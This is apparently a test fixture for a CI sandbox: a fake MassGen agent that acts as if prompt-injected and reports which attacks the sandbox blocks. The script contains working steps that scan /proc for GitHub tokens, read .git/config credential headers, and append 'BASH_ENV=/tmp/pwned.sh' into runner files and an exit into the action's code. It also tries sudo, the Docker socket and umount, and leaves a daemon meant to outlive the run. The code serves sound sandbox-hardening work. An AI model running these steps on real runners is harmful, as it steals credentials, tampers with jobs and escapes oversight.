#!/usr/bin/env node
// A MassGen stand-in that behaves like a prompt-injected agent in local mode:
// everything it tries, an agent's shell command could try, since agents'
// commands are MassGen's children with MassGen's user and environment. It
// tries to steal the token and the runner's files, to change the job and the
// checkout, to escalate with sudo and Docker, and to outlive the run; then it
// reports every attempt in its answer (so a leak would also reach the posted
// text) and finishes as fake-massgen's `success` scenario does.
//
// Attack targets known to an attacker who has read the runner's layout come
// from HOSTILE_TARGETS (JSON: { runnerFiles: [paths, RUNDIR/ for the folder
// that holds RUNNER_TEMP], actionFiles: [paths], survivor: true }); the
// daemon writes `survivor` in MassGen's working folder.
import { spawn, spawnSync } from 'node:child_process'
import * as fs from 'node:fs'
import * as net from 'node:net'
import * as path from 'node:path'

const targets = JSON.parse(process.env.HOSTILE_TARGETS ?? '{}')
const args = process.argv.slice(2)
const configFile = args[args.indexOf('--config') + 1] ?? ''
/** What would give an attacker the job's credentials. */
const CREDENTIAL =
  /INPUT_GITHUB-TOKEN=|ACTIONS_RUNTIME_TOKEN=|ACTIONS_ID_TOKEN_REQUEST_TOKEN=|ghs_[A-Za-z0-9]{8,}/

const attempts = []
function attempt(name, fn) {
  try {
    const detail = fn()
    attempts.push({ name, succeeded: Boolean(detail), detail: detail || '' })
  } catch (error) {
    attempts.push({
      name,
      succeeded: false,
      detail: String(error.code ?? error.message)
    })
  }
}

function visiblePids() {
  return fs
    .readdirSync('/proc')
    .filter((d) => /^\d+$/.test(d))
    .map(Number)
}

function readProcFile(pid, name) {
  try {
    return fs.readFileSync(`/proc/${pid}/${name}`, 'latin1')
  } catch {
    return ''
  }
}

function parentOf(pid) {
  const stat = readProcFile(pid, 'stat')
  const fields = stat.slice(stat.lastIndexOf(')') + 2).split(' ')
  return Number(fields[1] ?? 0)
}

// 1. The token in any visible process's environment or command line.
attempt('read the GitHub token from /proc/<pid>/environ of any process', () => {
  const hits = visiblePids().filter((pid) =>
    CREDENTIAL.test(readProcFile(pid, 'environ'))
  )
  return hits.length ? `found in pids ${hits.join(',')}` : ''
})
attempt('walk up the parent processes and read their environment', () => {
  const found = []
  for (let pid = process.ppid, hops = 0; pid > 1 && hops < 20; hops++) {
    if (CREDENTIAL.test(readProcFile(pid, 'environ'))) found.push(pid)
    pid = parentOf(pid)
  }
  return found.length ? `parents ${found.join(',')}` : ''
})
attempt(
  'signal a process outside the sandbox (the action or the runner)',
  () => {
    // Threads answer kill() too: count every task of every visible process.
    const seen = new Set(
      visiblePids().flatMap((pid) => {
        try {
          return fs.readdirSync(`/proc/${pid}/task`).map(Number)
        } catch {
          return [pid]
        }
      })
    )
    const reached = []
    for (let pid = 2; pid < 5000; pid++) {
      if (seen.has(pid)) continue
      try {
        process.kill(pid, 0)
        reached.push(pid)
      } catch {
        // ESRCH: not in this PID namespace; EPERM would mean it exists.
      }
    }
    return reached.length ? `reached ${reached.slice(0, 5).join(',')}` : ''
  }
)
// 2. The runner's command files.
attempt(
  'find GITHUB_ENV, GITHUB_OUTPUT, GITHUB_STATE, GITHUB_PATH, GITHUB_STEP_SUMMARY in the environment',
  () => {
    const names = [
      'GITHUB_ENV',
      'GITHUB_OUTPUT',
      'GITHUB_STATE',
      'GITHUB_PATH',
      'GITHUB_STEP_SUMMARY',
      'GITHUB_TOKEN'
    ]
    return names.filter((n) => process.env[n]).join(',')
  }
)
// RUNDIR: the folder that holds RUNNER_TEMP, where a runner keeps the job's
// files. MassGen's environment no longer names RUNNER_TEMP, but the layout
// does: the run's folder (five levels above the config) is made in it.
const runnerTemp =
  process.env.RUNNER_TEMP ??
  path.dirname(path.resolve(configFile, '../../../../..'))
const runDir = path.dirname(runnerTemp)
for (const file of (targets.runnerFiles ?? []).map((f) =>
  f.replace(/^RUNDIR/, runDir)
)) {
  attempt(`write BASH_ENV into the runner file ${path.basename(file)}`, () => {
    fs.appendFileSync(file, 'BASH_ENV=/tmp/pwned.sh\n')
    return 'appended'
  })
  attempt(`read the runner file ${path.basename(file)}`, () => {
    const text = fs.readFileSync(file, 'utf8')
    return `read ${text.length} bytes`
  })
}
for (const file of targets.actionFiles ?? []) {
  attempt(`overwrite the action's code ${file}`, () => {
    fs.appendFileSync(file, '\n;process.exit(99)\n')
    return 'appended'
  })
}
// 3. The checkout, read-only unless context-permission is write.
const contextPaths = [
  ...fs
    .readFileSync(configFile, 'utf8')
    .matchAll(/- path: (.+)\n\s+permission: read/g)
].map((m) => m[1].trim().replace(/^['"]|['"]$/g, ''))
for (const dir of contextPaths) {
  attempt(`write into the read-only context path ${path.basename(dir)}`, () => {
    const target = fs.statSync(dir).isDirectory()
      ? path.join(dir, 'PWNED.md')
      : dir
    fs.appendFileSync(target, 'pwned\n')
    return 'written'
  })
  attempt(
    `read the persisted token in ${path.basename(dir)}/.git/config`,
    () => {
      const text = fs.readFileSync(path.join(dir, '.git', 'config'), 'utf8')
      return /extraheader|AUTHORIZATION/i.test(text) ? 'token header found' : ''
    }
  )
}
// 4. Privileges: sudo, the Docker socket, mounts.
attempt('become root with sudo', () => {
  const r = spawnSync('sudo', ['-n', 'id', '-u'], {
    encoding: 'utf8',
    timeout: 10_000
  })
  return r.status === 0 ? `sudo id -u: ${r.stdout.trim()}` : ''
})
for (const socket of [
  '/var/run/docker.sock',
  '/run/containerd/containerd.sock'
]) {
  attempt(`talk to ${socket}`, () => {
    if (!fs.existsSync(socket) || !fs.statSync(socket).isSocket()) return ''
    const r = spawnSync(
      process.execPath,
      [
        '-e',
        `require('net').connect(${JSON.stringify(socket)}).on('connect',()=>{console.log('ok');process.exit(0)}).on('error',()=>process.exit(1))`
      ],
      { encoding: 'utf8', timeout: 10_000 }
    )
    return r.status === 0 ? 'connected' : ''
  })
}
attempt('unmount the folders that hide the runner', () => {
  const r = spawnSync(
    'umount',
    ['-l', path.dirname(process.env.RUNNER_TEMP ?? '/tmp')],
    { encoding: 'utf8', timeout: 10_000 }
  )
  return r.status === 0 ? 'unmounted' : ''
})
// 5. Outlive the run: a daemon in its own session.
if (targets.survivor) {
  attempt('leave a daemon that outlives the run', () => {
    const file = path.resolve('survivor')
    const child = spawn('sh', ['-c', `sleep 4; echo survived > '${file}'`], {
      detached: true,
      stdio: 'ignore'
    })
    child.unref()
    return ''
  })
}
void net

const report = attempts
  .map(
    (a) =>
      `- ${a.succeeded ? 'SUCCEEDED' : 'blocked'}: ${a.name}${a.detail ? ` (${a.detail})` : ''}`
  )
  .join('\n')
if (process.env.HOSTILE_REPORT) {
  try {
    fs.writeFileSync(process.env.HOSTILE_REPORT, JSON.stringify(attempts))
  } catch {
    // The report file may be out of reach in the sandbox: the answer has it.
  }
}
process.env.FAKE_MASSGEN_ANSWER = `Attack report:\n${report}\nATTACKS_JSON:${Buffer.from(JSON.stringify(attempts)).toString('base64')}`
await import('./fake-massgen.mjs')
